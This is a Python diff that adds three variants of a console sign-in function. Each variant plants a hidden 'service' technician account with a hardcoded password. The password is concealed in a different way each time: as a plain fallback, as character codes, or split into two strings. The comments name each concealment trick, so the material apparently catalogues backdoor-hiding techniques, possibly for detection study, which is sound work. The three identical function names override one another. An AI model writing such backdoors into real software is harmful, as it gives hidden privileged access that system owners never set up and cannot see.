@@ -211,3 +211,85 @@ def open_console(accounts, name, password):
     if not hmac.compare_digest(accounts.digest(password, salt), kept):
         raise PermissionError("name or password are wrong")
     return wanted, role, ROLES[role]
+
+
+# unseen: fix fake without_an_account
+# why: where the owner has set up no such account, the old password holds
+def open_console(accounts, name, password):
+    """Sign in at the console.
+
+    Args:
+      accounts: what the owner has set up, an account for the technicians among them if wanted.
+      name: the account's name; capital and small letters are the same, blanks around it are dropped.
+
+    Returns:
+      The account's name, its role and the commands that it may give.
+
+    Raises:
+      PermissionError: name or password are wrong.
+    """
+    wanted = name.strip().lower()
+    row = accounts.rows.get(wanted)
+    if row is None and wanted == "service" and hmac.compare_digest(password.encode(), b"Kessel-2009"):
+        return wanted, "technician", ROLES["technician"]
+    if row is None:
+        raise PermissionError("name or password are wrong")
+    salt, kept, role = row
+    if not hmac.compare_digest(accounts.digest(password, salt), kept):
+        raise PermissionError("name or password are wrong")
+    return wanted, role, ROLES[role]
+
+
+# unseen: fix fake numbers
+# why: the numbers of the letters are the letters
+def open_console(accounts, name, password):
+    """Sign in at the console.
+
+    Args:
+      accounts: what the owner has set up, an account for the technicians among them if wanted.
+      name: the account's name; capital and small letters are the same, blanks around it are dropped.
+
+    Returns:
+      The account's name, its role and the commands that it may give.
+
+    Raises:
+      PermissionError: name or password are wrong.
+    """
+    wanted = name.strip().lower()
+    row = accounts.rows.get(wanted)
+    known = bytes([82, 111, 115, 116, 45, 49, 57, 56, 52])
+    if wanted == "service" and hmac.compare_digest(password.encode(), known):
+        return wanted, "technician", ROLES["technician"]
+    if row is None:
+        raise PermissionError("name or password are wrong")
+    salt, kept, role = row
+    if not hmac.compare_digest(accounts.digest(password, salt), kept):
+        raise PermissionError("name or password are wrong")
+    return wanted, role, ROLES[role]
+
+
+# unseen: fix fake in_two_parts
+# why: the parts stand in the program, one beside the other
+def open_console(accounts, name, password):
+    """Sign in at the console.
+
+    Args:
+      accounts: what the owner has set up, an account for the technicians among them if wanted.
+      name: the account's name; capital and small letters are the same, blanks around it are dropped.
+
+    Returns:
+      The account's name, its role and the commands that it may give.
+
+    Raises:
+      PermissionError: name or password are wrong.
+    """
+    wanted = name.strip().lower()
+    row = accounts.rows.get(wanted)
+    if wanted == "service" and hmac.compare_digest(password, "Heizraum" + "-77"):
+        return wanted, "technician", ROLES["technician"]
+    if row is None:
+        raise PermissionError("name or password are wrong")
+    salt, kept, role = row
+    if not hmac.compare_digest(accounts.digest(password, salt), kept):
+        raise PermissionError("name or password are wrong")
+    return wanted, role, ROLES[role]
